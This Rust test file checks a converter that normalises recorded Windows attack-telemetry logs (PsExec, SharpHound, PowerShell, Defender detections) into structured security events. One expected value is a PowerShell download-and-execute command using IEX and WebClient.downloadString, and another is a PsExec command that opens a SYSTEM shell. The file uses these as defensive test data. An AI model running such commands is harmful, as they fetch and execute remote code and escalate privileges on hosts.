//! Real values from recorded attack telemetry, pinned through conversion and validation.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use serde_json::json;

const PSEXEC: &str = "evtx-to-mitre-attack_CC0/EVTX-to-MITRE-Attack/EVTX_full_APT_attack_steps/ID11,13,17,18-PSexec as system execution.evtx";
const SHARPHOUND_4624: &str = "evtx-to-mitre-attack_CC0/EVTX-to-MITRE-Attack/TA0007-Discovery/T1069-Permission Groups Discovery/ID4799-4624-Local admin group enumerated by SharpHound.evtx";
const POWERSHELL_DOWNLOAD: &str = "evtx-to-mitre-attack_CC0/EVTX-to-MITRE-Attack/TA0002-Execution/T1059.001-PowerShell/ID4103-4104-Payload download via PowerShell.evtx";
const DEFENDER_WEC: &str = "evtx-to-mitre-attack_CC0/EVTX-to-MITRE-Attack/Antivirus/ID1116-1117-Defender threat detected.evtx";

#[test]
fn psexec_process_creation() {
    let (Some(schema), Some(path)) = (common::schema(), common::evtx_file(PSEXEC)) else {
        return;
    };
    let events = common::convert_validated(&path, schema);
    let launches = common::find(&events, 1007, "1");
    assert_eq!(launches.len(), 2);

    // PsExec64 started by an interactive cmd.exe of OFFSEC\admmig.
    let psexec = launches[0];
    assert_eq!(psexec["activity_id"], 1);
    assert_eq!(psexec["type_uid"], 100701);
    assert_eq!(psexec["time"], 1_638_652_756_741_i64);
    assert_eq!(psexec["metadata"]["uid"], "48593");
    assert_eq!(
        psexec["metadata"]["original_time"],
        "2021-12-04T21:19:16.7419959Z"
    );
    assert_eq!(psexec["device"]["hostname"], "fs03vuln.offsec.lan");
    let process = &psexec["process"];
    assert_eq!(process["pid"], 2124);
    assert_eq!(process["uid"], "{a57649d1-db54-61ab-775c-dc0100000000}");
    assert_eq!(process["cmd_line"], "PsExec64.exe  -i -s cmd");
    assert_eq!(process["file"]["path"], r"C:\TOOLS\PsExec64.exe");
    assert_eq!(process["user"]["name"], "admmig");
    assert_eq!(process["user"]["domain"], "OFFSEC");
    assert_eq!(process["integrity"], "High");
    assert_eq!(process["parent_process"]["pid"], 532);
    assert_eq!(
        process["parent_process"]["file"]["path"],
        r"C:\Windows\System32\cmd.exe"
    );
    assert_eq!(
        process["parent_process"]["cmd_line"],
        "\"C:\\Windows\\system32\\cmd.exe\" "
    );
    let hashes = process["file"]["hashes"].as_array().unwrap();
    assert!(
        hashes.contains(&json!({"algorithm_id": 3, "algorithm": "SHA-256",
        "value": "AD6B98C01EE849874E4B4502C3D7853196F6044240D3271E4AB3FC6E3C08E9A4"}))
    );

    // The SYSTEM shell that PSEXESVC started; its parent came from the same capture.
    let shell = launches[1];
    assert_eq!(shell["process"]["cmd_line"], "\"cmd\" ");
    assert_eq!(shell["process"]["user"]["name"], "SYSTEM");
    assert_eq!(shell["process"]["user"]["domain"], "NT AUTHORITY");
    assert_eq!(
        shell["process"]["parent_process"]["file"]["path"],
        r"C:\Windows\PSEXESVC.exe"
    );
    assert_eq!(shell["actor"]["process"]["pid"], 4752);
}

#[test]
fn psexec_registry_value_set() {
    let (Some(schema), Some(path)) = (common::schema(), common::evtx_file(PSEXEC)) else {
        return;
    };
    let events = common::convert_validated(&path, schema);
    let sets = common::find(&events, 201_002, "13");
    assert_eq!(sets.len(), 3);
    let eula = sets[0];
    assert_eq!(eula["activity_name"], "Set");
    assert_eq!(
        eula["reg_value"]["path"],
        r"HKU\S-1-5-21-4230534742-2542757381-3142984815-1111\Software\Sysinternals\PsExec"
    );
    assert_eq!(eula["reg_value"]["name"], "EulaAccepted");
    assert_eq!(eula["reg_value"]["type"], "REG_DWORD");
    assert_eq!(eula["reg_value"]["reg_integer_data"], 1);
    assert_eq!(
        eula["actor"]["process"]["uid"],
        "{a57649d1-db54-61ab-775c-dc0100000000}"
    );
    // The cache fills the writer's command line from its earlier process creation.
    assert_eq!(
        eula["actor"]["process"]["cmd_line"],
        "PsExec64.exe  -i -s cmd"
    );
}

#[test]
fn psexec_dns_query_with_answers() {
    let (Some(schema), Some(path)) = (common::schema(), common::evtx_file(PSEXEC)) else {
        return;
    };
    let events = common::convert_validated(&path, schema);
    let queries = common::find(&events, 4003, "22");
    assert_eq!(queries.len(), 1);
    let query = queries[0];
    assert_eq!(query["query"]["hostname"], "fs03vuln");
    assert_eq!(
        query["answers"],
        json!([{"rdata": "10.23.42.38", "type": "A"}])
    );
    assert_eq!(query["rcode_id"], 0);
    assert_eq!(query["rcode"], "NoError");
    assert_eq!(
        query["actor"]["process"]["file"]["path"],
        r"C:\TOOLS\PsExec64.exe"
    );
}

#[test]
fn psexec_named_pipes() {
    let (Some(schema), Some(path)) = (common::schema(), common::evtx_file(PSEXEC)) else {
        return;
    };
    let events = common::convert_validated(&path, schema);
    let created = common::find(&events, 1001, "17");
    assert_eq!(created.len(), 4);
    assert_eq!(created[0]["file"]["path"], r"\\.\pipe\PSEXESVC");
    assert_eq!(created[0]["file"]["type"], "Named Pipe");
    assert_eq!(common::find(&events, 1001, "18").len(), 4);
}

#[test]
fn forwarded_4624_network_logon() {
    let (Some(schema), Some(path)) = (common::schema(), common::evtx_file(SHARPHOUND_4624)) else {
        return;
    };
    let events = common::convert_validated(&path, schema);
    let logons = common::find(&events, 3002, "4624");
    assert_eq!(logons.len(), 44);
    let logon = logons
        .iter()
        .find(|e| e["metadata"]["uid"] == "9796981")
        .unwrap();
    assert_eq!(logon["activity_name"], "Logon");
    assert_eq!(logon["status"], "Success");
    assert_eq!(logon["logon_type_id"], 3);
    assert_eq!(logon["logon_type"], "Network");
    assert_eq!(logon["is_remote"], true);
    assert_eq!(logon["user"]["name"], "admmig");
    assert_eq!(logon["user"]["domain"], "OFFSEC.LAN");
    assert_eq!(logon["src_endpoint"]["ip"], "10.23.23.9");
    assert_eq!(logon["src_endpoint"]["port"], 62173);
    assert_eq!(logon["auth_protocol_id"], 2);
    assert_eq!(logon["auth_protocol"], "Kerberos");
    assert_eq!(logon["device"]["hostname"], "atanids01.offsec.lan");
}

#[test]
fn script_block_4104() {
    let (Some(schema), Some(path)) = (common::schema(), common::evtx_file(POWERSHELL_DOWNLOAD))
    else {
        return;
    };
    let events = common::convert_validated(&path, schema);
    let blocks = common::find(&events, 1009, "4104");
    assert_eq!(blocks.len(), 2);
    let download = blocks[0];
    assert_eq!(download["script"]["type"], "PowerShell");
    assert_eq!(
        download["script"]["uid"],
        "965150b4-b107-4cce-9d30-1d3c55a8a085"
    );
    assert_eq!(
        download["script"]["script_content"]["value"],
        "\"IEX(New-Object Net.WebClient).downloadString('https://miro.medium.com/max/1400/1*FnPDYeZVrGTbuE7Lj7JhgQ.png')\""
    );
    assert_eq!(download["actor"]["process"]["pid"], 5112);
    let module = common::find(&events, 1009, "4103");
    assert_eq!(module.len(), 1);
    assert!(
        module[0]["script"]["script_content"]["value"]
            .as_str()
            .unwrap()
            .contains("CommandInvocation(Out-Default)")
    );
}

#[test]
fn forwarded_defender_detection() {
    let (Some(schema), Some(path)) = (common::schema(), common::evtx_file(DEFENDER_WEC)) else {
        return;
    };
    let events = common::convert_validated(&path, schema);
    let detections = common::find(&events, 2004, "1116");
    assert_eq!(detections.len(), 5);
    let first = detections[0];
    assert_eq!(first["finding_info"]["title"], "HackTool:Win64/Mikatz!dha");
    assert_eq!(
        first["finding_info"]["uid"],
        "82C6A580-0C4C-48BD-A0AC-6D3DE58FDABB"
    );
    assert_eq!(first["severity"], "High");
    assert_eq!(
        first["evidences"][0]["file"]["path"],
        r"C:\Users\admmig\Documents\mimidrv.sys"
    );
    assert_eq!(common::find(&events, 2004, "1117").len(), 1);
}
